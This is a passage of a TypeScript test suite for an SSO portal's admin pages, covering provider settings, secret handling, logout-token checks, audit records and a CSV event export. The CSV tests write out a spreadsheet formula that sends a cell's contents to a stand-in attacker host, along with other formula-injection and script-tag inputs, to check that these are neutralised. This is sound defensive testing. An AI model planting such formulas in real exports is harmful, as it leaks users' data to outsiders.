      (sealed) => post('/new/generic', { ...form(), 'kept.clientSecret': `${sealed}A` }),
    ],
    [
      'after 15 minutes',
      async (sealed) => {
        const clock = takeClock()
        try {
          clock.pass(15 * 60_000 + 1)
          return await post('/new/generic', { ...form(), 'kept.clientSecret': sealed })
        } finally {
          clock.back()
        }
      },
    ],
    [
      'after 15 minutes, even if another mistake was made in the meantime',
      async (sealed) => {
        const clock = takeClock()
        try {
          clock.pass(10 * 60_000)
          const again = await post('/new/generic', { ...rejected, 'kept.clientSecret': sealed })
          clock.pass(5 * 60_000 + 1)
          return await post('/new/generic', { ...form(), 'kept.clientSecret': sealedIn(again)! })
        } finally {
          clock.back()
        }
      },
    ],
  ])('is worthless %s', async (_what, use) => {
    const { clientSecret } = provider
    const sealed = sealedIn(await post('/new/generic', { ...rejected, clientSecret }))!
    expect(sealed).toMatch(/^ey[\w-]+\.\./)
    const tokens = provider.requests.length
    const seen = await use(sealed)
    // The page keeps only a secret that it could open.
    expect([seen.status, sealedIn(seen)]).toEqual([422, undefined])
    const sent = provider.requests.slice(tokens).map(({ headers, body }) => JSON.stringify([headers, body]))
    expect(
      sent.filter((text) => text.includes(Buffer.from(`:${clientSecret}`).toString('base64url'))),
    ).toEqual([])
    expect(await saved()).toEqual(['acme'])
  })
})

describe('the question whose addresses are trusted', () => {
  const form = (more: object) => ({ ...entries(provider), ...more })
  const northwind = async () => (await portal.sso.providers.find('northwind'))!

  it.each<[preset: string, answer: object, settings: object]>([
    ['generic', {}, { trustsEmail: false, emailDomains: [] }],
    [
      'generic',
      { trust: 'confirmed', emailDomains: 'a.example' },
      { trustsEmail: false, emailDomains: ['a.example'] },
    ],
    [
      'generic',
      { trust: 'domains', emailDomains: 'a.example b.example' },
      { trustsEmail: true, emailDomains: ['a.example', 'b.example'] },
    ],
    [
      'onelogin',
      { 'answer.subdomain': 'acme', trust: 'code', emailDomains: 'a.example' },
      { trustsEmail: false, emailDomains: [] },
    ],
    [
      'google',
      { trust: 'domains', emailDomains: 'a.example' },
      { emailDomains: ['a.example'], authorizationParameters: { hd: 'a.example' } },
    ],
    [
      'google',
      { trust: 'anyone', emailDomains: 'a.example' },
      { emailDomains: [], authorizationParameters: {} },
    ],
  ])('at %s with %j becomes settings', async (preset, answer, settings) => {
    await open({ mailer: async () => {} })
    await done(`/new/${preset}`, form(answer))
    expect(await northwind()).toMatchObject(settings)
    expect((await page('/northwind/trust')).body).toContain(
      `value="${(answer as { trust?: string }).trust ?? 'confirmed'}" checked`,
    )
  })

  it.each<[what: string, preset: string, answer: object, sentence: string]>([
    [
      'all addresses without a list of domains',
      'generic',
      { trust: 'domains' },
      'Enter at least one domain.',
    ],
    ['an unknown answer', 'generic', { trust: 'everybody' }, 'Choose whose addresses you trust.'],
    ['an answer of another preset', 'generic', { trust: 'anyone' }, 'Choose whose addresses you trust.'],
    [
      'a code without a mailer',
      'onelogin',
      { 'answer.subdomain': 'acme', trust: 'code' },
      'Choose whose addresses you trust.',
    ],
  ])('refuses %s', async (_what, preset, answer, sentence) => {
    await open()
    const seen = await post(`/new/${preset}`, form(answer))
    expect([seen.status, textOf(seen)]).toEqual([422, expect.stringContaining(sentence)])
    expect(await portal.sso.providers.list()).toEqual([])
  })

  it('says that codes need a mailer', async () => {
    await open()
    const question = textOf(await page('/new/google'))
    expect(question).toContain('cannot send codes, so people with other addresses cannot sign in')
    expect(textOf(await page('/new/entra'))).toContain(
      'Not available, because this portal cannot send codes.',
    )
    await portal.close()
    await open({ mailer: async () => {} })
    expect(textOf(await page('/new/entra'))).toContain('We e-mail the code once')
  })

  it('shows no answer as chosen if none results in the saved settings, so that saving grants no trust', async () => {
    await open({ mailer: async () => {} })
    await done('/new/onelogin', form({ 'answer.subdomain': 'acme', trust: 'code' }))
    const { version } = await portal.sso.providers.update('northwind', { emailDomains: ['a.example'] })
    expect((await page('/northwind/trust')).body).not.toContain(' checked')
    const seen = await post('/northwind/trust', { emailDomains: 'a.example', version: String(version) })
    expect([seen.status, textOf(seen)]).toEqual([
      422,
      expect.stringContaining('Choose whose addresses you trust.'),
    ])
    expect((await northwind()).trustsEmail).toBe(false)
  })

  it('can be answered again, after which the sign-in is tested again', async () => {
    await openWithAcme()
    const { version } = await acme()
    const stale = await post('/acme/trust', { trust: 'confirmed', version: '77' })
    expect([stale.status, textOf(stale)]).toEqual([422, expect.stringContaining('changed by someone else')])
    const none = await post('/acme/trust', { trust: 'domains', version: String(version) })
    expect([none.status, textOf(none)]).toEqual([422, expect.stringContaining('Enter at least one domain.')])
    const answer = { trust: 'domains', emailDomains: 'example.com', version: String(version) }
    expect((await done('/acme/trust', answer)).url).toContain('/acme/test-sign-in?')
    expect(await acme()).toMatchObject({ trustsEmail: true, emailDomains: ['example.com'] })
  })
})

it('keeps the other parameters of a Google provider, whatever answer changes', async () => {
  await open()
  await done('/new/google', { ...entries(provider), authorizationParameters: 'hl=de', trust: 'anyone' })
  const answer = async (more: object) => {
    const { version } = (await portal.sso.providers.find('northwind'))!
    await done('/northwind/trust', { ...more, version: String(version) })
    return (await portal.sso.providers.find('northwind'))!.authorizationParameters
  }
  const domains = { trust: 'domains', emailDomains: 'a.example' }
  expect(await answer(domains)).toEqual({ hl: 'de', hd: 'a.example' })
  expect(await answer({ trust: 'anyone' })).toEqual({ hl: 'de' })
})

describe('a client key (private_key_jwt)', () => {
  it('is created with the draft, shown with its JWKS URI, and rotated', async () => {
    await open()
    provider.faults.discovery = {
      token_endpoint_auth_methods_supported: ['private_key_jwt'],
      token_endpoint_auth_signing_alg_values_supported: ['RS256'],
    }
    const { clientSecret: _, ...form } = entries(provider)
    const seen = await done('/new/generic', { ...form, clientAuthentication: 'private_key_jwt', act: 'save' })
    expect(seen.body).toContain(`value="${portal.url}/login/northwind/jwks.json"`)
    expect(textOf(await page('/northwind')).match(/RS256, signs now/g)).toHaveLength(1)
    expect(textOf(await done('/northwind/rotate-key'))).toMatch(/signs now.*signs from|signs from.*signs now/)
    expect((await page('/northwind')).body).not.toContain('"d"')
  })
})

describe('editing a provider', () => {
  const form = async (changes: Record<string, string> = {}) => ({
    displayName: 'Acme',
    issuer: provider.issuer,
    clientId: provider.clientId,
    version: String((await acme()).version),
    ...changes,
  })

  it('shows the saved settings, saves changes and resets emptied fields', async () => {
    await openWithAcme()
    await portal.sso.providers.update('acme', { prompt: 'login', emailDomains: ['example.com'] })
    const { body } = await page('/acme/edit')
    expect(body).toContain('value="example.com"')
    expect(body).toMatch(/<option value="login" selected>/)
    const changes = {
      emailDomains: 'example.org example.net',
      trustsEmail: 'on',
      prompt: '',
      logout: 'portal',
      frontChannelLogout: 'on',
    }
    await done('/acme/edit', await form(changes))
    expect(await acme()).toMatchObject({
      emailDomains: ['example.org', 'example.net'],
      trustsEmail: true,
      prompt: undefined,
      logout: 'portal',
      frontChannelLogout: true,
    })
    const shown = await page('/acme')
    expect(shown.body).toContain(`value="${portal.url}/logout/acme/frontchannel"`)
    expect((await page('/acme/edit')).body).toMatch(/name="frontChannelLogout"[^>]* checked/)
    await done('/acme/edit', await form())
    expect(await acme()).toMatchObject({
      emailDomains: [],
      trustsEmail: false,
      logout: 'provider',
      frontChannelLogout: false,
    })
    expect((await page('/acme')).body).not.toContain('/frontchannel')
  })

  it('shows the second of two administrators the conflict, and keeps their entries', async () => {
    await openWithAcme()
    const mine = await form({ displayName: 'Mine', prompt: 'login' })
    await done('/acme/edit', await form({ displayName: 'Theirs', emailDomains: 'example.com' }))
    const seen = await post('/acme/edit', mine)
    expect(seen.status).toBe(409)
    const text = textOf(seen)
    expect(text).toContain('Someone else changed this provider')
    expect(text).toContain('Display name Theirs Mine')
    expect(text).toContain('E-mail domains example.com –')
    expect(seen.body).toContain('name="displayName" type="text" value="Mine"')
    expect((await acme()).displayName).toBe('Theirs')

    // After seeing the conflict, the administrator may save.
    const [, version = ''] = /name="version" value="(\d+)"/.exec(seen.body) ?? []
    await done('/acme/edit', { ...mine, version })
    expect((await acme()).displayName).toBe('Mine')
  })

  it('never overwrites a row without its version', async () => {
    await openWithAcme()
    for (const version of ['', 'x', '-1', 'NaN'])
      expect((await post('/acme/edit', await form({ displayName: 'Blind', version }))).status).toBe(409)
    expect((await acme()).displayName).toBe('Acme')
  })

  it('saves nothing if a check fails, and shows which one', async () => {
    await openWithAcme()
    const seen = await post('/acme/edit', await form({ signingAlgorithm: 'ES512' }))
    expect([seen.status, textOf(seen)]).toEqual([422, expect.stringContaining('Signature: failed')])
    expect((await acme()).signingAlgorithm).toBeUndefined()
  })

  it('ignores line endings in certificates, and so asks for no secret', async () => {
    await open()
    const certificate = selfSigned('id.acme.example').cert.trim()
    await portal.connect(provider, { certificateAuthority: certificate })
    const inForm = certificate.replaceAll('\n', '\r\n')
    const renamed = await form({ displayName: 'Renamed', certificateAuthority: inForm })
    await done('/acme/edit', renamed)
    expect(await acme()).toMatchObject({
      displayName: 'Renamed',
      certificateAuthority: `${certificate}\n`,
    })
  })

  it('asks for the secret again when the issuer changes, so that it is not sent to another server', async () => {
    await openWithAcme()
    const seen = await post('/acme/edit', await form({ issuer: other.issuer }))
    expect(seen.status).toBe(422)
    expect(textOf(seen)).toContain('Enter the client secret again, because the issuer changes.')
    expect(other.requests.filter(({ path }) => path === '/token')).toEqual([])
  })
})

describe('a provider whose keys can no longer be unsealed', () => {
  it('still has a page, which explains the problem and can remove the provider', async () => {
    await open()
    provider.faults.clientKeysAt = portal.sso.providers.jwksUri('acme')
    await portal.connect(provider, { clientSecret: undefined, clientAuthentication: 'private_key_jwt' })
    const before = portal
    await open({ database: before.knex, secret: 'quite-another-secret-longer-than-32-characters' })
    const seen = await page('/acme')
    expect([seen.status, textOf(seen)]).toEqual([200, expect.stringContaining('under another SSO_SECRET')])
    await done('/acme/remove')
    await portal.close()
    portal = before
  })
})

describe('the page of a provider', () => {
  describe('while logout tokens are refused', () => {
    const deliver = async (claims: Claims) => {
      const body = new URLSearchParams({ logout_token: await signLogoutToken(provider, claims) })
      return (await fetch(`${portal.url}/logout/acme/backchannel`, { method: 'POST', body })).status
    }

    it('shows the reasons and how often each occurred, in place of a ✓', async () => {
      provider.faults.discovery = { backchannel_logout_supported: true }
      await openWithAcme()
      expect(textOf(await page('/acme'))).toMatch(/✓ Back-channel logout: passed/)
      for (const claims of [{ aud: 'other' }, { aud: 'other' }, { iat: 0 }])
        expect(await deliver({ sub: 'ada', ...claims })).toBe(400)
      const text = textOf(await page('/acme'))
      expect(text).toMatch(/! Back-channel logout: warning 3 logout tokens were refused/)
      expect(text).toMatch(/It was issued too long ago \(iat\)\. 1 in 30 days, last on/)
      expect(text).toMatch(/Its audience is not this client \(aud\)\. 2 in 30 days, last on/)
      expect(text).not.toContain('✓ Back-channel logout')
    })

    it('counts neither those of another provider, portal or earlier row, nor accepted ones', async () => {
      await openWithAcme()
      await portal.connect(other, { slug: 'other', displayName: 'Other' })
      expect(await deliver({ sub: 'ada' })).toBe(200)
      expect(await deliver({ sub: 'ada', aud: 'other' })).toBe(400)
      await portal.knex('sso_providers').where({ slug: 'other' }).update({ slug: 'later' })
      await portal.knex('sso_events').update({ portal: 'north' })
      expect(textOf(await page('/acme'))).not.toContain('Refused logout tokens')
      await portal.knex('sso_events').update({ portal: 'default' })
      expect(textOf(await page('/acme'))).toContain('Refused logout tokens')
      expect(textOf(await page('/later'))).not.toContain('Refused logout tokens')
      const later = new Date(Date.now() + 1000).toISOString()
      await portal.knex('sso_providers').update({ created_at: later })
      expect(textOf(await page('/acme'))).not.toContain('Refused logout tokens')
    })

    it('shows at most five reasons, and nothing of a token', async () => {
      await openWithAcme()
      const faults = [
        { aud: 'x' },
        { iat: 0 },
        { iat: 'x' },
        { exp: 1 },
        { sub: 7 },
        { jti: '' },
        { nonce: 'n' },
      ]
      for (const claims of faults) await deliver({ sub: '<b>ada</b>', ...claims })
      const seen = await page('/acme')
      expect(textOf(seen)).toContain('And for 2 other reasons')
      expect(seen.body).not.toContain('<b>ada')
    })
  })

  it('says for whom it vouches, and warns without a domain limit', async () => {
    await openWithAcme()
    const unlimited = textOf(await page('/acme'))
    expect(unlimited).toContain('Vouches for every verified address (email_verified)')
    expect(unlimited).toContain(
      'There is no domain limit, so anyone who can verify an address there can sign in as its owner. List the domains',
    )
    await portal.sso.providers.update('acme', { emailDomains: ['example.com'], trustsEmail: true })
    const limited = textOf(await page('/acme'))
    expect(limited).toContain('Vouches for addresses of @example.com only')
    expect(limited).not.toContain('no domain limit')
  })

  it('saves limits of an organisation and of the authentication', async () => {
    await openWithAcme()
    const { issuer, clientId } = provider
    const settings = {
      emailDomains: 'example.com',
      organizationClaim: 'org_id',
      organizationValues: 'acme, globex',
      maxAge: '3600',
      acr: 'mfa, phr',
    }
    await done('/acme/edit', { displayName: 'Acme', issuer, clientId, version: '1', ...settings })
    expect(await acme()).toMatchObject({
      organizationClaim: 'org_id',
      organizationValues: ['acme', 'globex'],
      maxAge: 3600,
      acr: ['mfa', 'phr'],
    })
    expect((await page('/acme/edit')).body).toMatch(/name="maxAge"[^>]*value="3600"/)
    expect(textOf(await page('/acme'))).toContain('of @example.com only, with org_id acme or globex')
    expect(textOf(await page('/acme/what-is-read'))).toContain('org_id shows which organisation')
    const wrong = { displayName: 'Acme', issuer, clientId, version: '2', maxAge: 'soon' }
    expect(await post('/acme/edit', wrong)).toMatchObject({
      status: 422,
      body: expect.stringContaining('Write a number of seconds'),
    })
  })
})

describe('a new provider', () => {
  it('is not offered the slug of a removed provider, so that the latter can be restored', async () => {
    await open()
    await portal.connect(provider, { slug: 'sso' })
    await portal.sso.providers.remove('sso')
    expect((await page('/new/generic')).body).toContain('name="slug" type="text" value="sso-2"')
  })
})

describe('a URL to enter at the provider', () => {
  it('follows the typed slug, even if the mount path contains the same word', async () => {
    portal = await startPortal({
      mountPath: '/sso',
      mount: (app, sso) => app.use('/admin/sso', sso.session(), sso.admin({ authorize: () => true })),
    })
    const { body } = await page('/new/generic')
    expect(body).toContain(`value="${portal.url}/sso/login/sso/callback"`)
    expect(body).toContain(`data-template="${portal.url}/sso/login/{slug}/callback"`)
    expect(body).toContain(`data-template="${portal.url}/sso/logout/{slug}/backchannel"`)
  })
})

describe('an action of an administrator', () => {
  it('is recorded with all its changes, even if one of them is long', async () => {
    await openWithAcme()
    const authorizationParameters = { hint: '"'.repeat(900), other: 'x'.repeat(900) }
    const emailDomains = ['mallory.example']
    await portal.sso.providers.update('acme', { authorizationParameters, trustsEmail: true, emailDomains })
    const [{ detail }] = await portal.knex('sso_events').where({ kind: 'provider-changed' })
    const { change, before, after } = JSON.parse(detail)
    expect(change).toBe('authorizationParameters, emailDomains, trustsEmail')
    expect(JSON.parse(before)).toEqual({ authorizationParameters: {}, trustsEmail: false, emailDomains: [] })
    expect(JSON.parse(after)).toEqual({
      authorizationParameters: expect.stringMatching(/^\{"hint":".+…$/),
      trustsEmail: true,
      emailDomains,
    })
  })

  it('is recorded even if it only ends a recommendation', async () => {
    await openWithAcme()
    await portal.connect(other, { slug: 'other' })
    const { providers } = portal.sso
    await providers.recommend('acme', { actor: 'ada' })
    await providers.recommend('other', { actor: 'bob' })
    await providers.clearRecommended({ actor: 'eve' })
    const acts = await portal.knex('sso_events').where({ kind: 'provider-changed' }).orderBy('at')
    expect(acts.map(({ provider: slug, actor, detail }) => [slug, actor, JSON.parse(detail).change])).toEqual(
      expect.arrayContaining([
        ['acme', 'ada', 'recommended'],
        ['other', 'bob', 'recommended'],
        ['acme', 'bob', 'no longer recommended'],
        ['other', 'eve', 'no longer recommended'],
      ]),
    )
    expect(acts).toHaveLength(4)
  })

  it('is recorded with its actor', async () => {
    await openWithAcme({ authorize: (req) => req.user !== undefined })
    const ada = await portal.sso.users.create({ email: 'ada@example.com', name: 'Ada', fields: {} })
    admin = new Visitor()
    await signIn({ portal, visitor: admin }, 'acme')
    await done('/new/generic', { ...entries(other), act: 'save' })
    await done('/northwind/recommend')
    await done('/northwind/enable', { withoutTestSignIn: 'yes' })
    await done('/northwind/disable')
    await done('/northwind/remove')
    const acts = await portal.knex('sso_events').where({ provider: 'northwind' }).select('kind', 'actor')
    expect(acts.length).toBeGreaterThanOrEqual(5)
    for (const { actor } of acts) expect(actor).toBe(ada.id)
  })

  it('that is not possible shows the reason', async () => {
    await open()
    await portal.connect(provider, { enabled: false })
    const seen = await post('/acme/enable')
    expect(seen.status).toBe(422)
    expect(seen.body).toContain('<div class="sso-summary" tabindex="-1" autofocus>')
    expect(textOf(seen)).toContain('No test sign-in has passed')
    expect((await acme()).enabled).toBe(false)
    const skip = 'Enable without a test sign-in'
    expect(textOf(await page('/acme'))).toContain(skip)
    await done('/acme/enable', { withoutTestSignIn: 'yes' })
    expect((await acme()).enabled).toBe(true)
    await done('/acme/disable')
    const tested = { test_sign_in_at: '2026-01-01T00:00:00.000Z', test_sign_in_user_id: 'a user' }
    await portal.knex('sso_providers').update(tested)
    expect(textOf(await page('/acme'))).not.toContain(skip)
  })

  it('takes effect at the next request: enabling and disabling', async () => {
    await open()
    await portal.connect(provider)
    await portal.connect(other, { slug: 'other', displayName: 'Other', enabled: false })
    const offered = async () => (await new Visitor().get(`${portal.url}/login`)).body.includes('/login/other')
    expect(await offered()).toBe(false)
    await done('/other/enable', { withoutTestSignIn: 'yes' })
    expect(await offered()).toBe(true)
    expect(textOf(await page('/other/disable'))).toContain('People with no other sign-in method')
    await done('/other/disable')
    expect(await offered()).toBe(false)
  })

  it('that removes a provider is confirmed first, shows how many users are affected, and can be undone', async () => {
    await openWithAcme()
    await portal.sso.users.create({ email: 'ada@example.com', name: 'Ada', fields: {} })
    await signIn({ portal, visitor: new Visitor() }, 'acme')
    expect(textOf(await page('/acme/remove'))).toMatch(
      /People who have signed in with it 1 People with no other sign-in method 1 /,
    )
    expect((await acme()).enabled).toBe(true)
    const seen = await done('/acme/remove')
    expect(seen.url).toBe(`${portal.url}/admin/sso/?done=removed`)
    expect(await portal.sso.providers.find('acme')).toBeUndefined()
    expect(textOf(seen)).toMatch(/Removed .*Acme acme, removed on/)
    expect(textOf(await done('/acme/restore'))).toContain('Restored as a draft')
    expect((await acme()).enabled).toBe(false)
  })

  it('that disables a provider ends its sessions only if the checkbox is ticked', async () => {
    await openWithAcme()
    await portal.connect(other, { slug: 'other' })
    await portal.sso.users.create({ email: 'ada@example.com', name: 'Ada', fields: {} })
    const ada = new Visitor()
    await signIn({ portal, visitor: ada }, 'acme')
    const isSignedIn = async () => (await ada.get(`${portal.url}/portal`)).status === 200
    await done('/acme/disable')
    expect(await isSignedIn()).toBe(true)
    await done('/acme/enable', { withoutTestSignIn: 'yes' })
    await done('/acme/disable', { endSessions: 'on' })
    expect(await isSignedIn()).toBe(false)
  })

  it('schedules the retirement of a provider, and cancels it', async () => {
    await openWithAcme()
    expect(textOf(await post('/acme/retire', { at: '' }))).toContain('Enter the end date.')
    const day = new Date(Date.now() + 10 * 24 * 3_600_000).toISOString().slice(0, 10)
    expect(textOf(await done('/acme/retire', { at: day }))).toContain('The end date is set.')
    expect((await acme()).retireAt?.slice(0, 10)).toBe(day)
    await done('/acme/keep')
    expect((await acme()).retireAt).toBeUndefined()
  })

  it('accepts only the signing algorithm that a test sign-in reported', async () => {
    await openWithAcme()
    await portal.sso.users.create({ email: 'ada@example.com', name: 'Ada', fields: {} })
    const testSignIn = async () => await onward({ portal, visitor: admin }, await post('/acme/test-sign-in'))
    const { action, fields } = formIn((await testSignIn()).body)
    expect([action, fields]).toEqual(['/admin/sso/acme/pin-algorithm', [['algorithm', 'RS256']]])
    expect(textOf(await done('/acme/pin-algorithm', Object.fromEntries(fields)))).toContain('Saved.')
    expect((await acme()).signingAlgorithm).toBe('RS256')
    expect((await testSignIn()).body).not.toContain('pin-algorithm')
    expect((await post('/acme/pin-algorithm', { algorithm: 'HS256' })).status).toBe(422)
    expect((await acme()).signingAlgorithm).toBe('RS256')
  })

  it('on a provider that does not exist gets 404', async () => {
    await open()
    const acts = [
      'test',
      'enable',
      'disable',
      'move',
      'recommend',
      'remove',
      'edit',
      'test-sign-in',
      'pin-algorithm',
    ]
    for (const act of acts) expect([act, (await post(`/nobody/${act}`)).status]).toEqual([act, 404])
  })
})

describe('the event log', () => {
  const write = (events: object[]) =>
    portal.knex.batchInsert(
      'sso_events',
      events.map((event, at) => ({
        id: randomUUID(),
        portal: 'default',
        at: `2026-11-${String(1 + (at % 28)).padStart(2, '0')}T12:00:00.000Z`,
        kind: 'signed-in',
        detail: '{}',
        ...event,
      })),
      50,
    )

  it('shows the events that match a filter', async () => {
    await open()
    await write([
      { provider: 'acme', user_id: 'ada' },
      { provider: 'other', user_id: 'grace' },
      {
        kind: 'sign-in-failed',
        provider: 'acme',
        reference: 'K7QX2M9P',
        detail: JSON.stringify({ code: 'response_invalid', reason: 'the nonce is another one' }),
      },
    ])
    expect(textOf(await page('/events?user=ada'))).toMatch(/2026-11-01 12:00:00 Signed in acme ada /)
    expect(textOf(await page('/events?user=ada'))).not.toContain('grace')
    expect(textOf(await page('/events?reference=k7qx2m9p'))).toContain('Reason: the nonce is another one')
    expect(textOf(await page('/events?from=2026-11-02&to=2026-11-02'))).toMatch(/2026-11-02 .*other grace/)
    expect(textOf(await page('/events?from=2026-11-02&to=2026-11-02'))).not.toContain('2026-11-03')
    const empty = await page('/events?kind=linked&provider=acme&from=2026-11-02')
    expect(textOf(empty)).toContain('No matching events')
    for (const control of [
      '<option value="linked" selected>',
      '<option value="acme" selected>',
      'name="from" type="date"',
    ])
      expect(empty.body).toContain(control)
  })

  it('shows people and administrators by name, and programs as such', async () => {
    await openWithAcme()
    const person = async (name: string) =>
      (await portal.sso.users.create({ email: `${name}@example.com`, name: `${name} & Sons`, fields: {} })).id
    const [ada, grace] = [await person('ada'), await person('grace')]
    await write([
      { provider: 'acme', user_id: ada },
      { kind: 'unlinked', provider: 'acme', user_id: ada, actor: grace },
      { kind: 'sessions-ended', provider: 'acme', actor: 'cli:root', detail: '{"sessions":3}' },
      { kind: 'signed-in', user_id: 'a deleted user' },
      // A user may have any name, but not the look of a program.
      { kind: 'unlinked', user_id: 'x', actor: '__proto__' },
    ])
    const statements: string[] = []
    portal.knex.on('query', ({ sql }: { sql: string }) => void statements.push(sql))
    const seen = await page('/events')
    expect(statements.filter((sql) => /sso_users/.test(sql))).toHaveLength(1)
    const text = textOf(seen)
    expect(text).toContain('Signed in Acme ada & Sons ada@example.com')
    expect(text).toContain('Account unlinked Acme grace & Sons grace@example.com User: ada & Sons')
    expect(text).toContain('Sessions ended Acme Command line (root) 3 sessions ended.')
    expect(text).toContain('Signed in a deleted user')
    expect(seen.body).toContain(`href="/admin/sso/sessions?user=${grace}"`)
    expect(seen.body).toContain('href="/admin/sso/sessions?user=__proto__"')
  })

  it('shows ids where the directory of the host fails, and asks it for no more names than rows', async () => {
    const asked: string[] = []
    const users = {
      findById: async (id: string) => {
        asked.push(id)
        if (id !== 'u55') throw new Error('the directory is away')
        return { id, email: 'one@example.com', name: 'User One' }
      },
      findByEmail: async () => undefined,
      create: () => Promise.reject(new Error('closed')),
    }
    await open({ users })
    await write(Array.from({ length: 60 }, (_, at) => ({ user_id: `u${at}`, actor: `a${at}` })))
    const text = textOf(await page('/events'))
    expect(text).toContain('User One one@example.com')
    expect(text).toContain('Signed in a27 User: u27')
    expect(asked.length).toBeLessThanOrEqual(60)
  })

  it.each<[string, Record<string, unknown>, string[]]>([
    [
      'settings',
      {
        change: 'displayName, emailDomains, trustsEmail, logout, clientSecret',
        before: JSON.stringify({ displayName: 'A', emailDomains: [], trustsEmail: false, logout: 'ask' }),
        after: JSON.stringify({
          displayName: 'B',
          emailDomains: ['b.example'],
          trustsEmail: true,
          logout: 'portal',
        }),
      },
      [
        'Display name: A → B',
        'E-mail domains: – → b.example',
        'Trust every e-mail address from this provider: no → yes',
        'Sign-out ends: ask: the user chooses whether the provider’s session ends, too → portal: the provider’s session stays',
        'Client secret changed.',
      ],
    ],
    ['a setting of another version', { change: 'spare', after: '{"spare":1}' }, ['spare: – → 1']],
    ['a shortened value', { change: 'issuer', after: '{"issuer' }, ['Issuer changed.']],
    ['a state', { change: 'enabled', testSignIn: 'overridden' }, ['Enabled. No test sign-in had passed.']],
    ['a logo', { change: 'logo removed' }, ['The logo was removed.']],
    ['an order', { change: 'order: a, b' }, ['New order on the login page: a, b.']],
    ['a logo', { change: 'logo' }, ['A new logo was uploaded.']],
    ['a removed logo', { change: 'logo removed' }, ['The logo was removed.']],
  ])('tells what changed in words: %s', async (_what, detail, words) => {
    await open()
    await write([{ kind: 'provider-changed', provider: 'x', actor: 'code', detail: JSON.stringify(detail) }])
    const text = textOf(await page('/events'))
    for (const each of words) expect(text).toContain(each)
    expect(text).not.toContain('{"')
  })

  it('points from the old value to the new one, also from right to left', async () => {
    await open()
    const detail = JSON.stringify({
      change: 'displayName',
      before: '{"displayName":"A"}',
      after: '{"displayName":"B"}',
    })
    await write([{ kind: 'provider-changed', provider: 'x', actor: 'code', detail }])
    const seen = await page('/events?lang=ar')
    expect(seen.body).toContain('<html lang="ar" dir="rtl">')
    expect(textOf(seen)).toContain('A ← B')
    // Beside Arabic letters, 2026-11-01 would be shown as 01-11-2026.
    expect(seen.body).toMatch(/<time datetime="[^"]*" dir="ltr">2026-11-01/)
  })

  it.each([
    ['email', 'E-mail addresses on the login page: one client address sent too many requests.'],
    ['logo', 'Logos of providers: one client address sent too many requests.'],
  ])('names the limit %s in words', async (limit, words) => {
    await open()
    await write([{ kind: 'rate-limited', detail: JSON.stringify({ limit }) }])
    expect(textOf(await page('/events'))).toContain(words)
  })

  it.each([
    ['the error number of Entra', 'entra', '… (AADSTS50105): …', /assign this account: Enterprise apps/i],
    [
      'the words of Okta',
      'okta',
      '"access_denied": "User is not assigned to the client application."',
      /not assigned to the application in Okta\. What to do: Assign the user or a group/,
    ],
    [
      'the code, at another provider',
      'generic',
      '"User is not assigned to the client application."',
      /did not admit the user, or the user cancelled\. What to do: Check at the provider/,
    ],
  ])('explains a failure by %s, and says if a browser reported it', async (_what, preset, reason, words) => {
    await openWithAcme()
    await portal.knex('sso_providers').update({ preset, created_at: '2026-01-01' })
    const detail = JSON.stringify({ code: 'provider_denied', reason, reportedBy: 'browser' })
    const at = new Date().toISOString()
    await write([{ kind: 'sign-in-failed', provider: 'acme', at, reference: 'K7QX2M9P', detail }])
    for (const path of ['/events?kind=sign-in-failed', '/acme']) {
      const text = textOf(await page(path))
      expect(text).toMatch(words)
      expect(text).toContain('A browser reported this. Anyone can send such a report.')
    }
    expect((await page('/acme')).body).toContain('href="/admin/sso/events?reference=K7QX2M9P"')
  })

  it('has a chart of the portal, or of the provider in the filter', async () => {
    await open()
    const today = new Date().toISOString()
    await write([
      { provider: 'acme', at: today },
      { provider: 'other', at: today },
      { kind: 'sign-in-failed', provider: 'other', at: today },
      { kind: 'linked', provider: 'other', at: today },
    ])
    const label = async (query: string) =>
      /aria-label="(Last 30[^.]*)/.exec((await page(`/events${query}`)).body)?.[1]
    expect(await label('')).toBe('Last 30 days: 2 sign-ins, 1 failure')
    expect(await label('?provider=acme')).toBe('Last 30 days: 1 sign-in, 0 failures')
    expect(await label('?provider=nobody')).toBeUndefined()
  })

  it('is shown page by page', async () => {
    await open()
    await write(Array.from({ length: 70 }, () => ({ provider: 'acme' })))
    const first = await page('/events?provider=acme')
    const [, next = ''] = /href="([^"]*before=[^"]*)"/.exec(first.body) ?? []
    const second = await admin.get(portal.url + next.replaceAll('&amp;', '&'))
    const rows = (seen: Seen) => seen.body.split('<time').length - 1
    expect([rows(first), rows(second)]).toEqual([50, 20])
  })

  it.each([
    'kind=Not+A+Kind',
    'provider=%00',
    'from=yesterday',
    'to=2026-13-45',
    'from=2026-02-30',
    'reference=<script>',
  ])('shows an error for %s', async (query) => {
    await open()
    const seen = await page(`/events?${query}`)
    expect(seen.status).toBe(422)
    expect(seen.body).toContain('aria-invalid="true"')
    expect(seen.body).not.toContain('events.csv')
    expect((await page(`/events.csv?${query}`)).status).toBe(404)
  })

  it('is exported as CSV with all events that match the filter', async () => {
    await open()
    await write(Array.from({ length: 2500 }, (_, at) => ({ provider: at % 5 === 0 ? 'other' : 'acme' })))
    const { headers, body } = await page('/events.csv?provider=acme')
    expect(headers.get('content-type')).toContain('text/csv')
    expect(headers.get('content-disposition')).toBe('attachment; filename="sso-events.csv"')
    expect(headers.get('cache-control')).toBe('no-store')
    const lines = body.split('\r\n')
    expect(lines[0]).toBe('at,kind,provider,userId,actor,reference,clientAddress,detail')
    expect(lines).toHaveLength(1 + 2000 + 1)
    expect(new Set(lines).size).toBeGreaterThan(28)
  })

  it('exports no formula that a spreadsheet would run', async () => {
    await open()
    const formula = '=HYPERLINK("https://evil.example/?"&A1)'
    await write([{ user_id: formula }])
    const { body } = await page('/events.csv')
    expect(body).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1)"`)
  })

  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', '"\'\r=1"'],
    [' =1', "' =1"],
    ['＝1', "'＝1"],
    // With a comma as the decimal separator, as in German, a semicolon starts the next cell.
    ['a;=1', "a;'=1"],
    ['a; "-1', `"a;' ""-1"`],
    ['a;b', 'a;b'],
    ['a=1', 'a=1'],
    ['a,b', '"a,b"'],
    ['a"b', '"a""b"'],
    ['a\nb', '"a\nb"'],
    ['', ''],
  ])('exports %j as %j', (text, cell) => {
    expect(csvLine([text, 'x'])).toBe(`${cell},x\r\n`)
  })
})

describe('the page about the claims we use', () => {
  it('lists the scopes and the claims for a security review', async () => {
    await openWithAcme()
    const text = textOf(await page('/acme/what-is-read'))
